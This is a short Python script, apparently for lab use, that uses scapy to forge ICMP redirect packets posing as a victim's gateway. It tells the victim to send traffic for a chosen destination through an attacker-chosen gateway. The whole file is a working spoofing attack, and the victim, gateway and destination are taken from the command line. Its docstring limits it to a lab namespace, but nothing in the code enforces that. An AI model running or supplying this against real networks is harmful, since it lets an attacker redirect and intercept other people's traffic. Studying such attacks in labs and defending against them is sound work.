#!/usr/bin/python3
"""ICMP redirects in the gateway's name: VICTIM GATEWAY NEW-GATEWAY DESTINATION. Runs in a lab namespace only."""
import sys, time
from scapy.all import ICMP, IP, UDP, Ether, getmacbyip, get_if_hwaddr, sendp

victim, gateway, new, destination = sys.argv[1:5]
for _ in range(3):
    sendp(Ether(src=get_if_hwaddr("eth0"), dst=getmacbyip(victim)) / IP(src=gateway, dst=victim) / ICMP(type=5, code=1, gw=new)
          / IP(src=victim, dst=destination) / UDP(sport=5000, dport=53), iface="eth0", verbose=False)
    time.sleep(0.5)
